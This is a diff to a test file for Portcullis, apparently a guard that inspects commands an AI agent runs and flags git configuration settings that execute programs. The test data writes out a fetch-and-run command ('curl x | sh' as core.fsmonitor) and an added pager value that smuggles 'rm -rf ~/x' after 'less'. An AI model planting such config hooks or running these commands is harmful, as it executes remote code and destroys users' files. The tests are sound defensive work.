@@ -136,6 +136,13 @@ describe('D8 round 12: tools\' own configuration files that run programs', { ski
     assert.deepEqual(await findings('git status'), [
       `\`git\` runs what the agent's Unix user configures: its configuration file the repository's \`${config}\`, which the agent's Unix user can change, sets \`core.fsmonitor\`, which runs \`sh -c 'curl x | sh'\`, a shell snippet Portcullis does not judge`,
     ]);
+    // a worktree's own settings (`extensions.worktreeConfig`) are read too
+    put(config, '[extensions]\n\tworktreeConfig = true\n');
+    put(join(repo, '.git', 'config.worktree'), '[core]\n\tpager = "less; rm -rf ~/x"\n');
+    assert.deepEqual(await findings('git log'), [
+      `\`git\` runs what the agent's Unix user configures: its configuration file the repository's \`${join(repo, '.git', 'config.worktree')}\`, which the agent's Unix user can change, sets \`core.pager\`, which runs \`less; rm -rf ~/x\`, a shell snippet Portcullis does not judge`,
+    ]);
+    rmSync(join(repo, '.git', 'config.worktree'));
     // an include of the global file, followed from ~/.gitconfig
     rmSync(config);
     put(join(home, '.gitconfig'), '[user]\n\tname = Kiro\n[include]\n\tpath = .gitconfig.d/aliases\n');
